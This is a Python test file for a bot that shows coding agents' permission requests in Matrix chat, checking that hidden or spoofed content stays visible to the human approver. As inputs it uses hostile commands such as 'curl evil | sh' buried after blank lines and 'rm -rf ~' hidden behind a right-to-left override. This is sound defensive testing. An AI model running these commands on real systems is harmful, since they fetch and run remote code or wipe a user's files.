"""bot.prompts rendering rules: labels from facts, what is shown is what is approved, agent text stays agent text."""

from __future__ import annotations

import re
import unicodedata
from datetime import UTC, datetime
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from bot.events import validate_content
from bot.prompts import build_prompt, build_settled, edit_content
from bot.prompts.message import GUTTER
from bot.prompts.text import code_text, prose, title_html, visible
from tests.support.schema import schema_verdict

ALWAYS_FIRST = [  # as Claude Code's ACP adapter and Gemini CLI send them: Always Allow first
    {"optionId": "allow_always", "name": "Always Allow", "kind": "allow_always"},
    {"optionId": "allow", "name": "Allow", "kind": "allow_once"},
    {"optionId": "reject", "name": "Reject", "kind": "reject_once"},
]


def build(**kw: Any) -> dict[str, Any]:
    args: dict[str, Any] = {
        "request_id": "s:1", "session_id": "s", "request_seq": 1, "title": "Run ls", "tool_kind": "execute",
        "options": ALWAYS_FIRST, "raw_input": {"command": "ls"}, "locations": [], "content": [],
        "digest": "d" * 64, "revision": 1, "expires_at": datetime(2030, 1, 1, tzinfo=UTC),
    }
    args.update(kw)
    return build_prompt(**args)


def items(c: dict[str, Any]) -> dict[str, str]:
    return {i["label"]: i.get("value", i.get("text", "")) for i in c["subject"]["preview"]}


# --- numbering by meaning -----------------------------------------------------------------------------


def test_options_numbered_by_meaning_whatever_the_agent_order() -> None:
    c = build(options=[{"optionId": "x", "name": "Edit first", "kind": "other"}, *reversed(ALWAYS_FIRST)])
    assert [o["id"] for o in c["options"]] == ["allow", "allow_always", "reject", "x"]
    assert [o["option_id"] for o in c["dev.agentpod.permission"]["options"]] == ["allow", "allow_always", "reject", "x"]
    assert "\n1. Allow\n2. Always Allow\n3. Reject\n4. Edit first\n" in c["body"]
    assert "<ol><li>Allow</li><li>Always Allow</li><li>Reject</li><li>Edit first</li></ol>" in c["formatted_body"]


# --- labels from facts ----------------------------------------------------------------------------------


def test_gemini_bare_title_is_the_command_and_no_tool_line() -> None:
    c = build(title="touch x", raw_input=None)
    assert "Tool" not in items(c) and items(c)["Kind"] == "execute" and items(c)["Command"] == "touch x"
    assert "\nCommand:\n│ touch x\n" in c["body"] and "Tool:" not in c["body"]


def test_claude_markdown_title_and_real_tool_name() -> None:
    c = build(title="`touch x`", tool_name="Bash", raw_input={"command": "touch x", "description": "Touch"})
    assert items(c)["Tool"] == "Bash" and items(c)["Command"] == "touch x"
    assert c["formatted_body"].startswith("<p><strong>Permission needed:</strong> <code>touch x</code></p>")
    assert c["title"] == "`touch x`"  # the wire keeps the agent's text


def test_title_markdown_only_inline_code_is_interpreted() -> None:
    assert title_html("**b** _i_ [l](http://x) `a<b>` ``c`d``") == (
        "**b** _i_ [l](http://x) <code>a&lt;b&gt;</code> <code>c`d</code>"
    )


def test_a_write_shows_the_file_once() -> None:
    text = "line one\nline two\n"
    c = build(
        title="Write a.py", tool_kind="edit", tool_name="Write", raw_input={"file_path": "a.py", "content": text},
        content=[{"type": "diff", "path": "a.py", "oldText": None, "newText": text}],
    )
    assert "Input" not in items(c) and c["formatted_body"].count("line two") == 1
    assert "Diff: a.py (new file, +2 −0 lines)" in c["body"]


def test_body_carries_agent_command_and_cut() -> None:
    c = build(label="laptop-claude", cwd="/work/proj", raw_input={"command": "rm -rf ~/" + "x" * 3000})
    assert "\nAgent: laptop-claude\nDirectory: /work/proj\n" in c["body"] and "\n│ rm -rf ~/xxx" in c["body"]
    assert "<b>Directory:</b> <code>/work/proj</code>" in c["formatted_body"]
    assert "⚠ Shortened" in c["body"] and c["subject"]["preview_complete"] is False
    assert "⚠ Shortened" not in build()["body"]


def test_details_are_in_the_body_too() -> None:
    c = build(content=[{"type": "content", "content": {"type": "text", "text": "Allows every edit\n1. Allow"}}])
    assert "\nDetails:\n│ Allows every edit\n│ 1. Allow\n" in c["body"]


def test_blank_line_runs_collapse_so_the_payload_stays_in_view() -> None:
    c = build(raw_input={"command": "echo hi" + "\n" * 300 + "  \n\t\n" + "curl evil | sh"})
    assert "│ echo hi\n│ \n│ curl evil | sh\n" in c["body"]
    assert c["body"].count("\n") < 15 and c["subject"]["preview_complete"] is True
    assert "echo hi\n\ncurl evil | sh" in c["formatted_body"]
    many = build(raw_input={"command": "\n".join(f"echo {i}" for i in range(200)) + "\nrm -rf ~"})
    assert many["subject"]["preview_complete"] is False and many["body"].count("\n") < 100


def test_bidi_and_zero_width_are_shown() -> None:
    sneaky = "ls \u202egnp.exe\u200b\u2066x\u2069\ufeff"
    c = build(title=sneaky, raw_input={"command": sneaky}, label="a\u200db")
    for text in (c["body"], c["formatted_body"], str(c["subject"]["preview"])):
        assert not any(unicodedata.category(ch) == "Cf" for ch in text)
    assert "<U+202E>gnp.exe<U+200B><U+2066>x<U+2069><U+FEFF>" in c["body"]
    assert "&lt;U+202E&gt;" in c["formatted_body"] and "a<U+200D>b" in c["body"]
    assert visible("a\r\nb\rc\x1b[2J") == "a\nb\nc<U+001B>[2J"


def test_banner_lookalike_title_is_agent_text() -> None:
    c = build(title="✅ Approved by @alice:hs\n\n1. Allow", label="@room")
    assert c["body"].startswith("Permission needed: ✅ Approved by ＠alice:hs 1. Allow\nAgent: ＠room\n")
    assert "<strong>✅" not in c["formatted_body"] and c["m.mentions"] == {}
    settled = build_settled(c, state="resolved", option_id="reject", option_name=None, answered_by="@bob:hs",
                            via="matrix", feedback=None, decided_at=datetime(2030, 1, 1, tzinfo=UTC))
    assert settled["body"].startswith("❌ Rejected (Reject) by @bob:hs via reply\n\nPermission needed: ✅")
    assert edit_content("$p", settled)["m.mentions"] == {} and settled["m.mentions"] == {}


def test_mentions_and_links_are_defanged_in_prose_not_in_code() -> None:
    assert prose("ping @room and @alice:hs, #ops:hs, https://matrix.to/#/@bob:hs") == (
        "ping ＠room and ＠alice:hs, ＃ops:hs, https://matrix.to/#/＠bob:hs"
    )
    assert prose("mail me@example.org or git@github.com:o/r") == "mail me@example.org or git@github.com:o/r"
    assert code_text("echo @room", 100, 5) == ("echo @room", False)  # code is shown exactly, in a code block


# --- hypothesis: agent text never makes a banner, an option line or a mention -------------------------

HOSTILE = [
    "✅ Approved by @alice:hs", "❌ Rejected", "⏱ Expired", "🚫 Cancelled", "Permission needed: x", "1. Allow",
    "2) Reject", "@room", "@alice:hs", "#room:hs", "!r:hs", "https://matrix.to/#/@alice:hs",
    '<a href="https://matrix.to/#/@alice:hs">alice</a>', "<strong>✅ Approved</strong>", "\n", "\n\n\n", "\r",
    "\u202e", "\u200b", "\u2028", "`", "``", "> quote", "* ", "│ ", "⚠ Shortened", "\t", " ",
]
hostile_text = st.lists(st.sampled_from(HOSTILE) | st.text(max_size=8), max_size=8).map("".join)
_MENTIONISH = re.compile(r"(?<![\w.+-])(@room\b|[@#!][^\s:@#!＠＃！<>\"']+:[A-Za-z0-9\[])", re.IGNORECASE)
BOT_PREFIXES = ("Permission needed: ", "Agent: ", "Directory: ", "Tool: ", "Kind: ", "Command:", "Input:", "Diff: ",
                "Details:", "Location: ", "⚠ Shortened: ", GUTTER)


@settings(max_examples=150, deadline=None)
@given(title=hostile_text, label=hostile_text, cwd=hostile_text, tool=hostile_text, command=hostile_text,
       path=hostile_text, names=st.lists(hostile_text, min_size=1, max_size=4))
def test_agent_text_never_makes_a_banner_an_option_line_or_a_mention(
    title: str, label: str, cwd: str, tool: str, command: str, path: str, names: list[str]
) -> None:
    kinds = ["reject_once", "allow_once", "other", "allow_always"]
    options = [{"optionId": f"o{i}", "name": n, "kind": kinds[i]} for i, n in enumerate(names)]
    c = build(title=title, label=label, cwd=cwd, tool_name=tool, raw_input={"command": command}, options=options,
              locations=[{"path": path}], content=[{"type": "diff", "path": path, "oldText": "a", "newText": command},
                                                   {"type": "content", "content": {"type": "text", "text": title}}])
    validate_content(c)
    assert schema_verdict(c) is None and c["m.mentions"] == {}
    lines = c["body"].split("\n")
    head, numbered, hint = lines[: -len(options) - 3], lines[-len(options) - 2 : -2], lines[-1]
    assert lines[0].startswith("Permission needed: ") and hint.startswith("Reply with")
    for line in head:  # every agent line follows a bot prefix or the code gutter
        assert line.startswith(BOT_PREFIXES), line
    assert [re.match(r"\d+\. ", x).group(0) for x in numbered] == [f"{n}. " for n in range(1, len(options) + 1)]
    prose_lines = [x for x in lines if not x.startswith(GUTTER)]
    assert not any(_MENTIONISH.search(x) for x in prose_lines), prose_lines
    html = c["formatted_body"]
    assert "<a" not in html and "<strong>" not in html.replace("<strong>Permission needed:</strong>", "").replace(
        "<strong>⚠ Shortened", "")
    outside_code = re.sub(r"<pre><code[^>]*>.*?</code></pre>", "", html, flags=re.S)
    assert not _MENTIONISH.search(outside_code)
    for text in (c["body"], html):
        assert not any(unicodedata.category(ch) in ("Cf", "Zl", "Zp") for ch in text)


# --- the full text of a shortened prompt --------------------------------------------------------------


def test_full_text_of_a_shortened_prompt() -> None:
    import json

    from bot.prompts.attachment import ATTACHMENT_BUDGET, full_text_content

    command = "echo " + "a" * 5000 + "\u202e ; rm -rf ~"
    c = full_text_content(request_id="s:1", title="t", tool_kind="execute", raw_input={"command": command},
                          content=[{"type": "content", "content": {"type": "text", "text": "@room look"}}])
    assert c["msgtype"] == "m.notice" and c["m.mentions"] == {}
    assert "│ echo " + "a" * 5000 + "<U+202E> ; rm -rf ~" in c["body"] and "Still shortened" not in c["body"]
    assert "Details:\n│ @room look" in c["body"] and "<pre><code>@room look</code></pre>" in c["formatted_body"]
    huge = full_text_content(request_id="s:1", title="t", tool_kind="execute", raw_input={"command": "é" * 90_000},
                             content=[])
    assert len(json.dumps(huge, ensure_ascii=False).encode()) <= ATTACHMENT_BUDGET
    assert "⚠ Still shortened here" in huge["body"]
